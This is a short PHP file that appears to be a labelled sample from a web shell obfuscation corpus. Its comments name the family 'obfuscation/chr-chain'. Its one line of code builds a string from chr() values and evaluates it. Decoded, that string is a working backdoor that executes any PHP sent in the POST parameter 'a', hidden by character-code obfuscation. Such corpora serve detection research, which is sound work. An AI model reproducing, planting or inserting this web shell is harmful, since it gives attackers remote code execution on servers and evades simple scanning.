<?php
// Family: obfuscation/chr-chain
// Style: long chr() payload
// Trait: whole code string built from chr() values and evaluated
eval(chr(105).chr(102).chr(40).chr(105).chr(115).chr(115).chr(101).chr(116).chr(40).chr(36).chr(95).chr(80).chr(79).chr(83).chr(84).chr(91).chr(39).chr(97).chr(39).chr(93).chr(41).chr(41).chr(101).chr(118).chr(97).chr(108).chr(40).chr(36).chr(95).chr(80).chr(79).chr(83).chr(84).chr(91).chr(39).chr(97).chr(39).chr(93).chr(41).chr(59));
